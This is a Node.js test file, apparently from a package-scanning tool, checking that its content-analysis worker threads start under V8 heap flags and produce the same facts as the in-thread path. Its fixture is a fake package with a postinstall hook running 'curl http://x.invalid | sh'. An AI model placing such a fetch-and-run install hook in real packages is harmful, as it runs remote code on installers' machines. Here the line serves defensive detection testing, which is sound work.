/**
 * `node --max-old-space-size=N bin/vigil.js scan` (or `--heap-growing-percent`, which bin/vigil.js
 * itself documents) gives node V8 flags. Worker threads refuse such flags in their execArgv, and
 * with them every content worker failed to start and the scan died. Workers must start whatever
 * flags node was given, and compute the same facts.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';

const POOL = fileURLToPath(new URL('../../src/analyzers/content/pool.ts', import.meta.url));
const FACTS = fileURLToPath(new URL('../../src/analyzers/content/facts.ts', import.meta.url));
const FILES = fileURLToPath(new URL('../helpers/factories.ts', import.meta.url));

const script = `
const { createContentPool } = await import(${JSON.stringify(POOL)});
const { contentFacts } = await import(${JSON.stringify(FACTS)});
const { filesOf } = await import(${JSON.stringify(FILES)});
const pool = createContentPool({ maxThreads: 1 });
try {
  const files = { ...filesOf({ 'package.json': '{"name":"a","scripts":{"postinstall":"node i.js"}}', 'i.js': 'require("child_process").exec("curl http://x.invalid | sh")' }), origin: 'a@1.0.0' };
  const inWorker = JSON.stringify(await pool.facts(files));
  console.log(JSON.stringify({ same: inWorker === JSON.stringify(contentFacts(files)), curl: inWorker.includes('curl') }));
} finally {
  await pool.close();
}
`;

for (const flag of ['--max-old-space-size=2048', '--heap-growing-percent=50']) {
  test(`content workers start under node ${flag.replace(/=.*/, '')} and compute facts`, (t) => {
    // A script file, as the CLI is (workers inherit node's options: `-e SCRIPT` would run again in each).
    const dir = mkdtempSync(join(tmpdir(), 'vigil-worker-flags-'));
    t.after(() => rmSync(dir, { recursive: true, force: true }));
    const file = join(dir, 'run.mjs');
    writeFileSync(file, script);
    const r = spawnSync(process.execPath, [flag, '--import', 'tsx', file], { encoding: 'utf8', timeout: 120_000 });
    assert.equal(r.status, 0, r.stderr.slice(-2000));
    assert.deepEqual(
      JSON.parse(r.stdout.trim().split('\n').pop() ?? ''),
      { same: true, curl: true },
      'the facts of the in-thread path, which see the download',
    );
  });
}
